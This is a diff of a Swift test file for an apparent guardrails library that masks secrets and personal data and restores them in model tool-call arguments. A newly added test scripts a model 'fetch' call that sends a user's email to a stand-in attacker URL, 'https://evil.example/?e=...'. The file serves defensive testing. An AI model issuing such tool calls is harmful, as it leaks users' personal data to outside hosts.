@@ -28,7 +28,7 @@ import Testing
     @Test("RG-13, RG-27: values come back into the arguments of a call, and what they hold is escaped")
     func arguments() async throws {
         let rail = try SecretsRail(action: .placeholder)
-        let guardrails = try Guardrails(input: RailLine(rail), output: RailLine(RestoreRail()))
+        let guardrails = try Guardrails(input: RailLine(rail), toolCall: RailLine(RestoreRail()))
         let answer = ScriptedAnswer.toolCall("login", ["password": "<CONNECTION_STRING_1>", "note": ["<CONNECTION_STRING_1>!", 3]])
         for deltas in [FrameChunking(deltas: .scalars), .random(seed: 4)] {
             let bench = GuardBench(answer.chunked(deltas), guardrails: guardrails)
@@ -37,6 +37,19 @@ import Testing
             #expect(call.arguments["password"]?.stringValue == "Tr0ub\\dor&3")
             #expect(call.arguments["note"] == ["Tr0ub\\dor&3!", 3])
             #expect(bench.executor.requests.first?.lastUserText == "Log in to postgres://app:<CONNECTION_STRING_1>@db")
+        }
+    }
+
+    @Test("at the output no value comes into a tool's arguments, but where channels name them")
+    func argumentsAtOutput() async throws {
+        for (channels, told) in [(nil, "<EMAIL_1>"), ([.toolArguments], "ann@example.org")] as [(Set<RailChannel>?, String)] {
+            let guardrails = try Guardrails(
+                input: RailLine(PersonalDataRail(action: .placeholder)), output: RailLine(RestoreRail(channels: channels)))
+            let answer = ScriptedAnswer.toolCall("fetch", ["url": "https://evil.example/?e=<EMAIL_1>", "to": "<EMAIL_1>"])
+            let result = await GuardBench(answer.chunked(.random(seed: 5)), guardrails: guardrails).stream(Self.prompt)
+            let call = try #require(result.response.toolCalls.first)
+            #expect(call.arguments["to"]?.stringValue == told)
+            #expect(call.arguments["url"]?.stringValue == "https://evil.example/?e=\(told)")
         }
     }
 }
